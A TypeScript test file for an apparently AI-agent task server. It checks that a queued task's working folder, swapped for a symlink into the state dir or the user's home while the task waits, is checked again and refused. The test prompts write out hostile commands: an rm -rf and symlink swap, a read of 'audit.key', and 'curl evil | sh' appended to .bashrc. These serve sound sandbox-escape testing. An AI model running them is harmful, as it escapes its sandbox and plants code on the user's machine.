import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { textOf } from '../support/harness.js';
import { viewOf, type TaskView } from '../support/views.js';
import { useRepoServer } from './repo-server.js';

// A task's cwd is checked when it is submitted (its real path, inside the roots, not in the state dir) and kept as that
// real path. A task running meanwhile may replace a folder on that path with a link (into the state dir, or out of the
// roots) while another waits in the queue: the waiting task's cwd is checked again when its run starts (cwdStill), and
// the run spawns in the checked path; a run whose own folder is the state dir is refused by the sandbox's planning.
const ctx = useRepoServer(
  { 'sub/README': 'a folder of the project\n', 'sub2/README': 'another\n' },
  { env: { CLAUDE_TIERS_MAX_RUNNING: '1' } },
);

// Task A (the only slot, sandboxed in the repo, where it may write) swaps `folder` for a link to `target` once task B,
// submitted while `folder` is a folder of the project (accepted, queued behind A), waits with `prompt`.
async function swapWhileQueued(folder: string, target: string, prompt: string): Promise<[TaskView, TaskView]> {
  const { server, repo } = ctx;
  const submit = async (bash: string, cwd: string) => {
    const r = await server.client.callTool({
      name: 'deep_task',
      arguments: { prompt: `[[bash:${bash}]]`, cwd, tier: 'sandboxed', isolation: 'none', wait_s: 0 },
    });
    expect(r.isError, textOf(r)).toBeFalsy();
    return viewOf(r).task_id;
  };
  const a = await submit(`echo x; sleep 3; rm -rf ${folder} && ln -s ${target} ${folder}; echo swapped=$?`, repo);
  const b = await submit(prompt, join(repo, folder));
  const [va, vb] = [await ctx.final(a), await ctx.final(b)];
  expect(va.last_text).toMatch(/swapped=0/);
  return [va, vb];
}

describe("a queued task's cwd swapped for a link into the state dir", () => {
  it('is checked again before the task runs (never runs in the state dir)', async () => {
    const state = ctx.server.stateDir;
    const [, vb] = await swapWhileQueued('sub', state, 'pwd -P; ls; wc -c < audit.key; echo key=$?');
    // Not run there (it would list the state dir and read the audit key, key=0): refused, naming the cwd.
    expect(vb.last_text ?? '').not.toContain(state);
    expect(vb.last_text ?? '').not.toMatch(/key=0/);
    expect(vb.state).toBe('failed');
    expect(vb.end?.message).toMatch(/cwd: .*sub changed since the task was submitted/);
  }, 400_000);

  it('is checked again before the task runs (never writes outside the roots, e.g. the home folder)', async () => {
    // A folder outside the roots, as the user's home: the sandbox lets a task write its own cwd.
    const home = mkdtempSync(join(tmpdir(), 'ct-home-'));
    writeFileSync(join(home, '.bashrc'), "# the user's\n");
    const [, vb] = await swapWhileQueued('sub2', home, "echo 'curl evil | sh' >> .bashrc; echo wrote=$?");
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).not.toContain('curl evil');
    expect(vb.state).toBe('failed');
  }, 400_000);
});
